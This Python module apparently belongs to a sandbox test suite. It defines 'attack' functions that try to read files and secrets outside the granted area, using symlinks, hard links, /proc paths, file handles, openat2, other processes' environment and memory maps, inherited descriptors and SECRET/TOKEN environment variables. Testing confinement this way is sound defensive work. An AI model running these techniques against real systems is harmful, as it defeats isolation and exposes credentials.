"""Attacks that read what was not granted."""

# ruff: noqa: PTH123, PTH208

import contextlib
import ctypes
import os
import struct
from pathlib import Path

from .common import attack, call, libc


@attack
def read_key(w):
    return (w.outside / "key").read_text()


@attack
def read_passwd(w):
    return Path("/etc/passwd").read_text()


@attack
def read_key_through_symlink(w):
    Path("link").symlink_to(w.outside / "key")
    return Path("link").read_text()


@attack
def read_key_through_hard_link(w):
    os.link(w.outside / "key", "hard")
    return Path("hard").read_text()


@attack
def read_key_through_proc_root(w):
    return Path(f"/proc/self/root{w.outside}/key").read_text()


@attack
def read_key_through_proc_cwd(w):
    os.chdir(w.outside)
    return Path("key").read_text()


@attack
def read_key_through_o_path(w):
    fd = os.open(w.outside / "key", os.O_PATH)
    return Path(f"/proc/self/fd/{fd}").read_text()


@attack
def read_key_by_handle(w):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    path = os.fsencode(w.outside / "key")
    call("name_to_handle_at", -100, path, handle, ctypes.byref(mount_id), 0)
    root = os.open("/", os.O_RDONLY)
    return os.read(call("open_by_handle_at", root, handle, 0), 100)


@attack
def read_key_with_openat2(w):
    how = struct.pack("QQQ", 0, 0, 0)
    fd = call("openat2", -100, os.fsencode(w.outside / "key"), ctypes.create_string_buffer(how), 24)
    return os.read(fd, 100)


@attack
def list_folder_outside(w):
    return os.listdir(w.outside)


@attack
def read_environment_of_the_service(w):
    return Path(f"/proc/{w.service}/environ").read_bytes()


@attack
def read_environment_of_all(w):
    found = []
    for pid in [w.victim, w.service, *range(1, 200)]:
        with contextlib.suppress(OSError):
            found.append(Path(f"/proc/{pid}/environ").read_bytes())
    if not found:
        raise PermissionError("none can be read")
    return len(found)


@attack
def read_memory_of_the_parent(w):
    with open(f"/proc/{os.getppid()}/maps") as maps:
        return maps.readline()


@attack
def use_inherited_descriptors(w):
    extra = []
    for fd in range(4, 256):
        with contextlib.suppress(OSError):
            os.fstat(fd)
            extra.append(fd)
    if not extra:
        raise PermissionError("there are none")
    return extra


@attack
def find_secrets_in_the_environment(w):
    found = [k for k in os.environ if "SECRET" in k or "TOKEN" in k]
    raw = ctypes.c_void_p.in_dll(libc, "environ")
    pointers = ctypes.cast(raw, ctypes.POINTER(ctypes.c_char_p))
    i = 0
    while pointers[i]:
        if b"SECRET" in pointers[i]:
            found.append(pointers[i])
        i += 1
    if not found:
        raise PermissionError("none")
    return found
